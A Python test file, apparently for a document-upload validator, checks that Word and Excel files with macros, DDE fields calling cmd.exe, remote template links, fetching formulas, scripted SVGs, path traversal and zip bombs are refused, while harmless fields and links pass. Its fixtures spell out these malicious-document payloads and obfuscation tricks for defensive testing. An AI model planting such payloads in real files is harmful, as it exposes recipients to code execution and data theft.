"""T12: a Word or Excel file holds listed parts only, and each is read as the tree it is, however it is written."""

import io
import zipfile

import pytest

from directory.refusals import Invalid
from office.files import documents
from office.files.documents import judge_document
from office.files.package import LARGEST_TEXT, LARGEST_UNPACKED
from tests.samples import (
    DOCX,
    DOCX_TYPES,
    OFFICE,
    TYPES,
    XLSX,
    XLSX_TYPES,
    content_types,
    links,
    package,
    picture,
    table,
    text,
)

OUTSIDE = "<Relationship Id='r1' Type='http://schemas/{kind}' Target='https://x.example/a' TargetMode='External'/>"
TEMPLATE = OUTSIDE.format(kind="attachedTemplate")
BEGIN = "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"
SEPARATE = BEGIN.replace("begin", "separate")
END = BEGIN.replace("begin", "end")
SVG = "<svg xmlns='http://www.w3.org/2000/svg'>{}</svg>"


def word(part: str = "", content: str = "", **of_parts: str) -> bytes:
    """A DOCX with one more part, and the kinds of further endings."""
    parts = DOCX | {"[Content_Types].xml": content_types(DOCX_TYPES, **of_parts)}
    return package({**parts, part: content} if part else parts)


def linked(links: str, part: str = "word/_rels/settings.xml.rels") -> bytes:
    """A DOCX with these links in it."""
    return word(part, f"<Relationships>{links}</Relationships>")


def field(*pieces: str) -> str:
    """A field of Word whose instruction is spread over as many runs."""
    return BEGIN + "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces) + END


def written(inner: str) -> bytes:
    """A DOCX with these runs."""
    return package({**DOCX, "word/document.xml": text(inner)})


def counted(formula: str) -> bytes:
    """An XLSX with this formula."""
    return package({**XLSX, "xl/worksheets/sheet1.xml": table(f"<c r='A1'><f>{formula}</f></c>")})


def drawn(inner: str) -> bytes:
    return word("word/media/image1.svg", SVG.format(inner), svg="image/svg+xml")


REFUSED = {
    # macros, controls, files in the file, kinds that are not listed
    "macros": word("word/vbaProject.bin", "macro", bin="application/vnd.ms-office.vbaProject"),
    "a kind with macros": package(
        {
            **DOCX,
            "[Content_Types].xml": content_types(DOCX_TYPES.replace("document.main", "document.macroEnabled.main")),
        }
    ),
    "a program": word("word/embeddings/oleObject1.bin", "MZ", bin=f"{TYPES}.oleObject"),
    "a control": word("word/activeX/activeX1.xml", "<ocx/>", xml="application/vnd.ms-office.activeX+xml"),
    "a web archive": word("word/afchunk.mht", "<html/>", mht="message/rfc822"),
    "a web page": word("word/afchunk.htm", "<html/>", htm="text/html"),
    "a part of no kind": word("word/notes.txt", "a"),
    "a part that is of no kind but looks like one": word("word/settings", "<a/>"),
    "links to an element of another file": word("xl/externalLinks/externalLink1.xml.x", "<a/>", x=f"{TYPES}.x+xml"),
    "two texts": package(
        {
            **DOCX,
            "word/second.xml": text(""),
            "[Content_Types].xml": content_types(DOCX_TYPES + DOCX_TYPES.replace("/word/document", "/word/second")),
        }
    ),
    # what is linked to
    "a template elsewhere": linked(TEMPLATE),
    "a picture elsewhere": linked(OUTSIDE.format(kind="image"), "word/_rels/document.xml.rels"),
    "a template elsewhere whose mode is spelt with references": linked(TEMPLATE.replace("External", "&#69;xternal")),
    "a template elsewhere under a name in capitals": linked(TEMPLATE, "word/_rels/settings.xml.RELS"),
    "a template elsewhere under a prefix": linked(TEMPLATE.replace("<Rel", "<p:Rel")),
    "a template elsewhere with prefixed attributes": linked(TEMPLATE.replace("TargetMode", "p:TargetMode")),
    "a template elsewhere that has the name of a link too": linked(TEMPLATE.replace("/>", " DataType='/hyperlink'/>")),
    "a template elsewhere that calls itself a link": linked(
        OUTSIDE.format(kind="attachedTemplate' Id2='Type=\"/hyperlink\"")
    ),
    "a mode that is no mode": linked(TEMPLATE.replace("External", "external ")),
    "a template elsewhere that says it is inside": linked(TEMPLATE.replace("External", "Internal")),
    "links of another kind": word("word/_rels/document.xml.rels", links(("aFChunk", "afchunk.xml"))),
    "links that cannot be read": word("word/_rels/settings.xml.rels", "<a></b>"),
    "links under a kind of their own": package(
        {
            **DOCX,
            "word/_rels/settings.xml.rels": TEMPLATE,
            "[Content_Types].xml": content_types(DOCX_TYPES, rels="application/xml"),
        }
    ),
    "a link to a script": linked(OUTSIDE.format(kind="hyperlink").replace("https:", "javascript:")),
    # fields
    "a field that calls a program": written(field('DDEAUTO c:\\cmd.exe "/k calc"')),
    "a field spread over two runs": written(field("DD", "E c:\\cmd.exe")),
    "a field spelt with references": written(field("&#68;&#68;&#69; cmd")),
    "a field in small letters": written(field(" ddeauto cmd")),
    "a field without a beginning": written("<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>"),
    "a field without an end": written(field("DDE cmd").rpartition("<w:r>")[0]),
    "a field whose name another gives": written(
        field("</w:instrText></w:r>" + field("QUOTE 68") + "<w:r><w:instrText>")
    ),
    "a field under another prefix": written(field("DDE cmd").replace("w:", "x:")),
    "a simple field": written("<w:fldSimple w:instr='INCLUDEPICTURE \"http://x.example/a.png\"'/>"),
    "a picture from elsewhere": written(field('INCLUDEPICTURE "http://x.example/a.png" \\d')),
    "a text from elsewhere": written(field("INCLUDETEXT c:\\a.docx")),
    "a field that is taken out in a revision": written(field("DDE c").replace("instrText", "delInstrText")),
    # pictures and formulas that fetch
    "a picture that is linked": written("<a:blip r:link='rId7'/>"),
    "a drawing with a picture elsewhere": written("<v:imagedata src='http://x.example/a.png'/>"),
    "a drawing filled from elsewhere": written("<v:fill src='\\\\x.example\\a.png'/>"),
    "an altered piece": written("<w:altChunk r:id='r1'/>"),
    "a formula that fetches": counted('_xlfn.WEBSERVICE("http://x.example/"&amp;A1)'),
    "a formula that shows a picture": counted('_xlfn.IMAGE("http://x.example/a.png")'),
    "a formula that calls a program": counted("cmd|'/c calc'!A1"),
    "a name that calls a program": package(
        {**XLSX, "xl/workbook.xml": "<workbook><definedName name='a'>cmd|'/c calc'!A1</definedName></workbook>"}
    ),
    "a drawing with a script": drawn("<script>alert(1)</script>"),
    "a drawing that acts when it is looked at": drawn("<g onload='alert(1)'/>"),
    "a drawing with a photo in it": drawn("<image href='data:image/jpeg;base64,AAAA'/>"),
    "a drawing with more from elsewhere": drawn("<use href='http://x.example/a.svg'/>"),
    # XML that is none, or more
    "an entity": package({**DOCX, "word/document.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}),
    "a document type": package({**DOCX, "word/document.xml": "<!DOCTYPE a><a/>"}),
    "another encoding": package({**DOCX, "word/document.xml": "<?xml version='1.0' encoding='utf-7'?><a/>"}),
    "two bytes a sign": package({**DOCX, "word/document.xml": text(field("DDE cmd")).encode("utf-16")}),
    "half a text": package({**DOCX, "word/document.xml": "<document>"}),
    # names
    "a path out of the folder": word("../../etc/passwd.xml", "<x/>"),
    "an absolute path": word("/etc/passwd.xml", "<x/>"),
    "a path of another system": word("word\\a.xml", "<x/>"),
    "a part that is there twice": word("word/DOCUMENT.xml", text("")),
}


@pytest.mark.parametrize("what", REFUSED)
def test_t12_a_word_or_excel_file_with_what_acts_or_fetches_is_refused(what: str) -> None:
    with pytest.raises(Invalid) as refusal:
        judge_document(REFUSED[what])

    assert refusal.value.sentence.endswith("。")
    assert refusal.value.errors == {"file": [refusal.value.sentence]}


FINE = {
    "a link to click on": linked(OUTSIDE.format(kind="hyperlink"), "word/_rels/document.xml.rels"),
    "a link to a file beside": linked(OUTSIDE.format(kind="hyperlink").replace("https://x.example/a", "附件1.docx")),
    "a link to a file on somebody's disk": linked(
        OUTSIDE.format(kind="hyperlink").replace("https://x.example/a", "D:\\a.docx")
    ),
    "a link in a prefix": word(
        "word/_rels/a.xml.rels", links(("styles", "styles.xml")).replace("<Rel", "<p:Rel").replace("</Rel", "</p:Rel")
    ),
    "page numbers": written(field(" PAGE ", "\\* MERGEFORMAT") + field("NUMPAGES")),
    "a number spread over two runs": written(field("PA", "GE")),
    "a sum of fields": written(field("= </w:instrText></w:r>" + field("PAGE") + "<w:r><w:instrText> + 1")),
    "an empty field": written(field()),
    "a table of contents": written(
        field('TOC \\o "1-3" \\h').replace(END, SEPARATE) + field('HYPERLINK \\l "_Toc1"') + field("PAGEREF a") + END
    ),
    "a text about DDE and macroEnabled": written("<w:r><w:t>DDE 和 DDEAUTO、macroEnabled 是什么</w:t></w:r>"),
    "a picture": word("word/media/image1.png", picture(kind="PNG"), png="image/png"),
    "a picture that says it is not linked": written("<a:blip r:embed='r1' r:link=''/>"),
    "a drawing": drawn("<defs><g id='a'/></defs><use href='#a'/>"),
    "an embedded font": word("word/fonts/font1.odttf", "x", odttf=f"{TYPES}.obfuscatedFont"),
    "a sum": counted('SUM(A1:B2)&amp;"甲|乙 IMAGE("'),
    "a folder": word("word/media/", ""),
    "a text under another name": package(
        {
            "[Content_Types].xml": content_types(DOCX_TYPES.replace("document.xml", "document2.xml")),
            "_rels/.rels": links(("officeDocument", "word/document2.xml")),
            "word/document2.xml": DOCX["word/document.xml"],
        }
    ),
    "names in capitals": package({name.upper(): content for name, content in DOCX.items()}),
    "the strict kind of the format": linked(
        "<Relationship Id='r1' Type='http://purl.oclc.org/ooxml/officeDocument/relationships/styles' Target='a.xml'/>"
    ),
    "a byte order mark": package({**DOCX, "word/document.xml": "\ufeff" + text("")}),
}


@pytest.mark.parametrize("what", FINE)
def test_t12_what_only_says_and_shows_something_is_taken_in(what: str) -> None:
    assert judge_document(FINE[what]) in (documents.DOCX, documents.XLSX)


def test_t12_a_zip_bomb_is_refused_by_what_it_says_and_by_what_it_holds() -> None:
    bomb = word("word/media/image1.png", bytes(LARGEST_UNPACKED + 1), png="image/png")
    lying = word("word/media/image1.png", bytes(5_000_000), png="image/png")
    with zipfile.ZipFile(io.BytesIO(lying)) as archive:
        true_size = archive.getinfo("word/media/image1.png").file_size.to_bytes(4, "little")
    lying = lying.replace(true_size, (100).to_bytes(4, "little"))
    long = package({**DOCX, "word/document.xml": text("<w:br/>" * (LARGEST_TEXT // 7))})

    for content in (bomb, lying, long):
        with pytest.raises(Invalid):
            judge_document(content)


def test_t12_a_table_of_another_office_is_no_text() -> None:
    slides = DOCX_TYPES.replace("wordprocessingml.document", "presentationml.presentation")

    with pytest.raises(Invalid, match="这不是 Word 或 Excel 文件"):
        judge_document(package({**DOCX, "[Content_Types].xml": content_types(slides)}))


def test_t12_the_kind_is_told_by_the_list_of_kinds() -> None:
    assert judge_document(package({**XLSX, "[Content_Types].xml": content_types(XLSX_TYPES)})) == documents.XLSX
    assert OFFICE in XLSX["_rels/.rels"]
